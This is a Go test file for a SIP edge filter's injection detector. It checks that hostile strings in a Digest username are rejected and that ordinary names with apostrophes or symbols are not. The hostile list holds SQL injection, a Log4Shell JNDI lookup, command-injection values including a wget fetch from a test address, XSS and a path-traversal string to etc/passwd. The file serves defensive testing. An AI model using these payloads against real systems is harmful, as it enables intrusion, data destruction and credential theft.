package injection

import (
	"testing"

	"github.com/ringwall/ringwall/check/checktest"
	"github.com/ringwall/ringwall/edge"
)

func TestHostile(t *testing.T) {
	for _, text := range []string{
		"' or 1=1--", "100' OR '1'='1", "%27%20or%201%3D1--", "%2527%2520or%25201%253D1", "';EXEC xp_cmdshell('id')--", "1; DROP TABLE users", "x' UNION SELECT 1,2--",
		"1 union all select password from subscriber", "1/**/UNION/**/SELECT/**/1", "admin'--", "admin' #", "') or ('a'='a", "1' AND SLEEP(5)#", "'||'a", "pg_sleep(10)",
		"1 WAITFOR DELAY '0:0:5'", "${jndi:ldap://203.0.113.9/a}", "$(id)", "`id`", "a;wget http://203.0.113.9/x", "<script>alert(1)</script>", "{{7*7}}",
		"%n%n%n", "x%00y", "..%2f..%2f..%2fetc/passwd", "\" or \"a\"=\"a",
	} {
		x := checktest.Exchange(t, checktest.Request("REGISTER", "sip:example.com", `Authorization: Digest username="`+escaped(text)+`", realm="r", nonce="n", uri="sip:h", response="0"`))
		if v := checktest.Opinion(New().Inspect(x)); v.Reason != "injection.text" || v.Score != 5 || v.Action != edge.Reply || v.Status != 400 {
			t.Errorf("%s: %+v", text, v)
		}
	}
}

// escaped keeps a text inside quotes.
func escaped(text string) (out string) {
	for _, c := range []byte(text) {
		switch c {
		case '"', '\\':
			out += "\\"
		}
		out += string(c)
	}
	return out
}

// TestLegalNames: names that people have, and that patterns stumble over.
func TestLegalNames(t *testing.T) {
	for _, name := range []string{
		"o'brien", "O'Reilly", "d'or", "l'hospital", "n'or-kim", "user=1", "a--b", "dev#7", "Zm9vYmFyCg==", "100%24x", "select.union", "union.select@x", "drop-in", "update;phone",
		"and_or", "o'and", "rock'n'roll", "100%25", "a&b", "c++", "semi%3Bcolon", "dollar$", "j.doe(home)", "executor", "tom's-phone", "or1", "x'y'z", "sleepy", "band;id=1",
	} {
		uri := "sip:" + name + "@example.com"
		if Hostile([]byte("<" + uri + ">;tag=a")) {
			t.Errorf("%s is hostile", name)
		}
	}
	for _, text := range []string{`"O'Brien, Pat" <sip:1@h>`, "Linphone/4.4.0 (belle-sip/5.0)", "Mozilla/5.0 (X11; Linux x86_64; rv:1)", "Cisco/SPA504G-7.6.2e", `"Tom & Jerry's" <sip:2@h>;tag=1`} {
		if Hostile([]byte(text)) {
			t.Errorf("%s is hostile", text)
		}
	}
}

func FuzzHostile(f *testing.F) {
	f.Add([]byte("%2527%20or"))
	f.Fuzz(func(_ *testing.T, b []byte) { Hostile(b) })
}
